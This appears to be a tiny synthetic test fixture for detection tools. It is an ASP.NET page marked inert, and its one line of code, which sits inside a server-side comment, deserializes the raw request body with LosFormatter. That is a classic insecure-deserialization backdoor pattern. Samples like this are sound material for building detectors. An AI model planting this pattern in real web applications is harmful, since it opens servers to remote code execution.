<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var o = new LosFormatter().Deserialize(Request.InputStream); %>
--%>
